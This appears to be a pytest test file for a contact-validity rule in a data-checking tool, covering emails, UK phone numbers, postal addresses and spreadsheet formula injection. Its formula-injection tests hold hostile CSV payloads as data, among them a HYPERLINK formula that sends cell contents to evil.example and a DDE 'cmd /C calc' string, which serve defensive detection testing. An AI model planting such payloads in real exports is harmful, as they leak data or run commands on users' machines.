"""contact-validity: must-flag and must-not-flag rows side by side."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import date
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policylint.engine.rule import Case, FieldMap, Item, RunContext
from policylint.masking import render_message
from policylint.model import Row, Severity, Violation
from policylint.normalise.phone import DRAMA_REASON
from policylint.rules.contact_validity import ContactValidity
from policylint.testing import codes, run_case

ROLES = (
    "recipient_id", "name", "email", "phone", "channel", "postcode",
    *(f"address_line_{i}" for i in range(1, 8)),
)

ADDRESS = {
    "address_line_1": "Mrs J Smith",
    "address_line_2": "10 High Street",
    "address_line_3": "Leeds",
    "postcode": "LS1 4AP",
}


def make_item(values: Mapping[str, str], channel: str | None = "letter") -> Item:
    cells = {"recipient_id": "P-1001", **values}
    headers = {k: k.replace("_", " ").title() for k in cells}
    roles = {role: role for role in ROLES if role in cells}
    row = Row(number=2, line=2, values=cells, headers=headers, file="batch.csv")
    return Item(row=row, fields=FieldMap(roles=roles), channel=channel)


def check(
    values: Mapping[str, str], channel: str | None = "letter",
    options: Mapping[str, Any] | None = None,
) -> list[Violation]:
    rule = ContactValidity(options or {}, RunContext(register=None, today=date(2026, 11, 26)))
    return list(rule.check_item(make_item(values, channel)))


def only(violations: list[Violation], code: str) -> Violation:
    found = [v for v in violations if v.code == code]
    assert len(found) == 1, codes(violations)
    return found[0]


# --- email ---------------------------------------------------------------------------

NOTIFY_VALID_EMAILS = [
    "email@domain.com", "firstname.o'lastname@domain.com", "email@subdomain.domain.com",
    "firstname+lastname@domain.com", "1234567890@domain.com", "_______@domain.com",
    "email@domain.superlongtld", "japanese-info@例え.テスト", "email@double--hyphen.com",
    " jane.smith@leeds.gov.uk ", "Jane.Smith@Leeds.GOV.UK",
]
NOTIFY_INVALID_EMAILS = [
    "email@123.123.123.123", "plainaddress", "@no-local-part.com",
    "Outlook Contact <outlook-contact@domain.com>", "no-tld@domain",
    "lots-of-dots@domain..gov..uk", "two-dots..in-local@domain.com",
    "multiple@domains@domain.com", "spaces in local@domain.com",
    "underscores-in-domain@dom_ain.com", "comma,in-local@gov.uk",
    "local-with-’-apostrophe@domain.com", "jane.smith@leeds.gov.uk.",
]


@pytest.mark.parametrize("email", NOTIFY_VALID_EMAILS)
def test_valid_email_not_flagged(email: str) -> None:
    assert check({"name": "Jane Smith", "email": email}, channel="email") == []


@pytest.mark.parametrize("email", NOTIFY_INVALID_EMAILS)
def test_invalid_email_flagged(email: str) -> None:
    found = check({"name": "Jane Smith", "email": email.lstrip("@")}, channel="email")
    v = only(found, "invalid-email")
    assert v.column == "email"
    assert v.severity is None  # the rule's default: error
    masked = render_message(v, show_values=False)
    assert email.lstrip("@") not in masked
    assert "not valid" in masked


def test_missing_email_for_an_email() -> None:
    assert codes(check({"name": "Jane Smith", "email": ""}, channel="email")) == [
        "missing-email"]
    assert codes(check({"name": "Jane Smith"}, channel="email")) == ["missing-email"]


def test_empty_optional_email_on_a_letter_not_flagged() -> None:
    assert check({**ADDRESS, "email": ""}) == []


def test_email_not_used_by_a_letter_is_not_checked_by_default() -> None:
    assert check({**ADDRESS, "email": "jane.smith@leeds"}) == []


def test_invalid_email_on_a_letter_is_only_a_warning_when_unused_contacts_are_checked() -> None:
    v = only(check({**ADDRESS, "email": "jane.smith@leeds"},
                   options={"check_unused_contacts": True}), "invalid-email")
    assert v.severity is Severity.WARNING


# --- phone ---------------------------------------------------------------------------

NOTIFY_UK_MOBILES = [
    "7723456789", "07723456789", "07723 456789", "07723-456-789", "00447723456789",
    "00 44 7723456789", "+447723456789", "+44 7723 456 789", "+44 (0)7723 456 789",
]


@pytest.mark.parametrize("phone", NOTIFY_UK_MOBILES)
@pytest.mark.parametrize("channel", ["sms", "voicemail"])
def test_valid_uk_mobile_not_flagged(phone: str, channel: str) -> None:
    assert check({"name": "Aisha Khan", "phone": phone}, channel=channel) == []


@pytest.mark.parametrize("phone", ["0113 242 1234", "029 2087 2087", "+44 20 7123 4567"])
def test_landline(phone: str) -> None:
    assert codes(check({"phone": phone}, channel="sms")) == ["not-a-mobile"]
    assert check({"phone": phone}, channel="voicemail") == []


@pytest.mark.parametrize(
    "phone", ["07700 900123", "+44 7700 900461", "0117 496 0860", "020 7946 0991",
              "01632 960123", "0191 498 0123"])
@pytest.mark.parametrize("channel", ["sms", "voicemail"])
def test_drama_numbers_flagged(phone: str, channel: str) -> None:
    v = only(check({"phone": phone}, channel=channel), "invalid-phone")
    assert v.facts["reason"] == DRAMA_REASON
    assert v.column == "phone"
    rendered = render_message(v, show_values=False)
    assert phone not in rendered
    assert "Ofcom" in rendered


@pytest.mark.parametrize(
    "phone", ["0772345678", "0772345678910", "07890x32109", "0400 123 4567", "ALPHANUM3R1C"])
def test_invalid_phone_flagged(phone: str) -> None:
    assert codes(check({"phone": phone}, channel="sms")) == ["invalid-phone"]


@pytest.mark.parametrize("phone", ["+33 6 12 34 56 78", "1-202-555-0104", "0033 6 12 34 56 78"])
def test_international_phone_is_a_warning(phone: str) -> None:
    v = only(check({"phone": phone}, channel="sms"), "international-phone")
    assert v.severity is Severity.WARNING
    strict = only(check({"phone": phone}, channel="sms",
                        options={"allow_international": False}), "international-phone")
    assert strict.severity is None  # error


def test_missing_phone() -> None:
    assert codes(check({"phone": " "}, channel="sms")) == ["missing-phone"]
    assert codes(check({}, channel="voicemail")) == ["missing-phone"]


def test_phone_not_used_by_a_letter_is_only_checked_leniently() -> None:
    assert check({**ADDRESS, "phone": "07700 900123"}) == []
    unused = {"check_unused_contacts": True}
    assert check({**ADDRESS, "phone": "0113 242 1234"}, options=unused) == []
    v = only(check({**ADDRESS, "phone": "07700 900123"}, options=unused), "invalid-phone")
    assert v.severity is Severity.WARNING


# --- letters -------------------------------------------------------------------------

GOOD_ADDRESSES = [
    {"address_line_1": "10 High Street", "address_line_2": "Leeds", "postcode": "LS1 4AP"},
    {"address_line_1": "Mrs J Smith", "address_line_2": "Flat 2, 10 High Street",
     "address_line_3": "Leeds", "address_line_4": "ls14ap"},
    {"address_line_1": "Mr D Evans", "address_line_2": "14 Station Rd",
     "address_line_3": "Cardiff", "address_line_4": "CF10 1EP", "postcode": "CF10 1EP"},
    {"address_line_1": "Ms B Hughes", "address_line_2": "3 Mill Lane, ",
     "address_line_3": "Swansea", "postcode": "SA1 1AA"},
    {"address_line_1": "Sgt T Wright", "address_line_2": "Unit 4", "address_line_3": "BFPO 105"},
    {"address_line_1": "10 High Street", "address_line_2": "Leeds", "address_line_3": "LS1 4AP",
     "address_line_4": "United Kingdom"},
    {"address_line_1": "Jean Dupont", "address_line_2": "12 Rue de la Paix",
     "address_line_3": "75002 Paris", "address_line_4": "France"},
    {"address_line_1": "A", "address_line_2": "B", "address_line_3": "C", "address_line_4": "D",
     "address_line_5": "E", "address_line_6": "F", "address_line_7": "YO1 7HH"},
]


@pytest.mark.parametrize("address", GOOD_ADDRESSES)
def test_good_address_not_flagged(address: dict[str, str]) -> None:
    assert check({"name": "Jane Smith", "email": "", **address}) == []


BAD_ADDRESSES = [
    ({"address_line_1": "10 High Street", "postcode": "LS1 4AP"}, ["address-too-short"]),
    ({}, ["address-too-short", ]),
    ({"address_line_1": "A", "address_line_2": "B", "address_line_3": "C",
      "address_line_4": "D", "address_line_5": "E", "address_line_6": "F",
      "address_line_7": "G", "postcode": "YO1 7HH"}, ["address-too-long"]),
    ({"address_line_1": "10 High Street", "address_line_2": "Leeds",
      "postcode": "LS1 4CP"}, ["invalid-postcode"]),
    ({"address_line_1": "10 High Street", "address_line_2": "Leeds",
      "address_line_3": "LS99 9"}, ["invalid-postcode"]),
    ({"address_line_1": "10 High Street", "address_line_2": "Leeds LS1 4AP",
      "address_line_3": "West Yorkshire"}, ["invalid-postcode"]),   # postcode not last
    ({"address_line_1": "10 High Street", "address_line_2": "Leeds",
      "address_line_3": "West Yorkshire"}, ["missing-postcode"]),
    ({"address_line_1": "Mr D Evans", "address_line_2": "NFA", "address_line_3": "Cardiff",
      "postcode": "CF10 1EP"}, ["no-fixed-abode"]),
    ({"address_line_1": "Mr D Evans", "address_line_2": "No fixed abode",
      "address_line_3": "Cardiff", "postcode": "CF10 1EP"}, ["no-fixed-abode"]),
    ({"address_line_1": "Mr D Evans", "address_line_2": "n.f.a.",
      "address_line_3": "Cardiff", "postcode": "CF10 1EP"}, ["no-fixed-abode"]),
    ({"address_line_1": "=HYPERLINK(\"http://x.example\",\"10 High St\")",
      "address_line_2": "Leeds", "postcode": "LS1 4AP"}, ["formula-in-address"]),
    ({"address_line_1": "@SUM(1+1)", "address_line_2": "Leeds", "postcode": "LS1 4AP"},
     ["formula-in-address"]),
    ({"address_line_1": "(Rear of) 10 High St", "address_line_2": "Leeds",
      "postcode": "LS1 4AP"}, ["address-invalid-character"]),
    ({"address_line_1": "<b>10 High St</b>", "address_line_2": "Leeds",
      "postcode": "LS1 4AP"}, ["address-invalid-character"]),
]


@pytest.mark.parametrize(("address", "expected"), BAD_ADDRESSES)
def test_bad_address_flagged(address: dict[str, str], expected: list[str]) -> None:
    found = check({"name": "Jane Smith", **address})
    assert codes(found) == sorted(expected)
    for v in found:
        assert "{" not in render_message(v, show_values=False)


def test_invalid_postcode_is_masked_and_names_its_column() -> None:
    v = only(check({"address_line_1": "10 High Street", "address_line_2": "Leeds",
                    "postcode": "LS1 4CP"}), "invalid-postcode")
    assert v.column == "postcode"
    rendered = render_message(v, show_values=False)
    assert "LS1 4CP" not in rendered and "LS1 ***" in rendered


def test_no_fixed_abode_names_the_column() -> None:
    v = only(check({"address_line_1": "Mr D Evans", "address_line_2": "NFA",
                    "address_line_3": "Cardiff", "postcode": "CF10 1EP"}), "no-fixed-abode")
    assert v.column == "address_line_2"


def test_international_letter_can_be_refused() -> None:
    address = {"address_line_1": "Jean Dupont", "address_line_2": "12 Rue de la Paix",
               "address_line_3": "75002 Paris", "address_line_4": "FRANCE"}
    assert check(address) == []
    assert codes(check(address, options={"allow_international": False})) == [
        "international-address"]


def test_countries_option_adds_a_country() -> None:
    address = {"address_line_1": "Kai Tanaka", "address_line_2": "1 Beach Road",
               "address_line_3": "Atlantis"}
    assert codes(check(address)) == ["missing-postcode"]
    assert check(address, options={"countries": ["Atlantis"]}) == []


def test_address_not_checked_for_an_email() -> None:
    assert check({"email": "jane@example.com", "address_line_1": "NFA"}, channel="email") == []


# --- formula injection ---------------------------------------------------------------

@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://evil.example/?"&A2,"Click")', "'='"),
        ("+SUM(1,2)", "'+'"),
        ("-2+3+cmd|' /C calc'!A0", "'-'"),
        ("@SUM(A1:A9)", "'@'"),
        ("\t=1+1", "a tab"),
        ("\r=1+1", "a carriage return"),
        ("  =1+1", "'='"),
    ],
)
def test_formula_in_any_cell_flagged(cell: str, shown: str) -> None:
    v = only(check({**ADDRESS, "notes": cell}), "formula-injection")
    assert v.column == "notes"
    assert v.severity is Severity.ERROR
    assert v.facts["char"] == shown
    assert v.facts["column"] == "Notes"
    assert cell.strip() not in render_message(v, show_values=False)


@pytest.mark.parametrize(
    ("column", "cell"),
    [
        ("balance", "-12.50"),
        ("balance", "+3"),
        ("balance", "-1,234.56"),
        ("balance", "-£12.50"),
        ("balance", "-"),
        ("phone", "+44 7723 456789"),
        ("phone", "+44 7700 900123"),  # drama, but a phone number, not a formula
        ("name", "Jane Smith-Jones"),
        ("notes", "Paid in full = yes"),
    ],
)
def test_not_a_formula(column: str, cell: str) -> None:
    found = check({**ADDRESS, column: cell})
    assert "formula-injection" not in codes(found)


def test_phone_shaped_value_outside_the_phone_column_is_flagged() -> None:
    assert codes(check({**ADDRESS, "notes": "+44 7723 456789"})) == ["formula-injection"]


def test_address_formula_is_reported_once() -> None:
    found = check({**ADDRESS, "address_line_2": "=10 High Street"})
    assert codes(found) == ["formula-in-address"]


@given(st.text(alphabet="0123456789.", min_size=1, max_size=8), st.sampled_from("+-"))
def test_signed_numbers_never_flagged(digits: str, sign: str) -> None:
    cell = sign + digits
    found = check({**ADDRESS, "amount": cell})
    is_number = digits.count(".") <= 1 and digits.strip(".") == digits and any(
        c.isdigit() for c in digits)
    assert ("formula-injection" in codes(found)) is not is_number


@given(st.sampled_from("=@"), st.text(max_size=20))
def test_equals_and_at_always_flagged(first: str, rest: str) -> None:
    assert "formula-injection" in codes(check({**ADDRESS, "notes": first + rest}))


# --- metadata --------------------------------------------------------------------------

def test_rule_metadata() -> None:
    assert ContactValidity.name == "contact-validity"
    assert ContactValidity.default_severity is Severity.ERROR
    assert ContactValidity.needs == frozenset({"row"})
    assert len(ContactValidity.examples) >= 3
    assert "Anti-pattern" in ContactValidity.doc() and "Best practice" in ContactValidity.doc()
    assert ContactValidity.default_options() == {
        "region": "GB", "allow_international": True, "allow_drama_numbers": False,
        "check_unused_contacts": False}


@pytest.mark.parametrize("example", ContactValidity.examples, ids=lambda e: e.title)
def test_examples_hold(example: Any) -> None:
    for case, expected in ((example.bad, list(example.bad.expect)), (example.good, [])):
        found: list[str] = []
        for values in case.rows:
            found += codes(check(values, channel=values.get("channel") or None,
                                 options=case.options))
        assert sorted(found) == sorted(expected)


def test_drama_numbers_pass_only_when_the_policy_allows_them() -> None:
    case = Case(rows=[{"recipient_id": "P-1", "phone": "07700 900123", "channel": "sms"}])
    assert codes(run_case(ContactValidity, case)) == ["invalid-phone"]
    assert codes(run_case(ContactValidity, case, options={"allow_drama_numbers": True})) == []
    landline = Case(rows=[{"recipient_id": "P-1", "phone": "01632 960123", "channel": "sms"}])
    assert codes(run_case(ContactValidity, landline,
                          options={"allow_drama_numbers": True})) == ["not-a-mobile"]


@given(st.lists(st.text(alphabet=" =+-@\t\r\x00a1.", max_size=6), max_size=6))
def test_the_row_search_for_formulas_misses_no_cell(cells: list[str]) -> None:
    """One search of the joined row finds a formula start wherever a cell has one."""
    from policylint.rules.contact_validity import _MAY_EXECUTE_RE, _executes

    if any(_executes(cell) is not None for cell in cells):
        assert _MAY_EXECUTE_RE.search("\x00" + "\x00".join(cells)) is not None


def test_a_formula_in_any_cell_is_flagged_and_a_plain_row_is_not() -> None:
    rows = [{"recipient_id": "P-1", "channel": "letter", "note": "  =1+1",
             "address_line_1": "Ms B Hughes", "address_line_2": "3 Mill Lane",
             "address_line_3": "Swansea", "postcode": "SA1 1AA"}]
    found = run_case(ContactValidity, Case(rows=rows))
    assert [(v.code, v.column) for v in found] == [("formula-injection", "note")]
    rows[0]["note"] = "a = b, +1"
    assert run_case(ContactValidity, Case(rows=rows)) == []
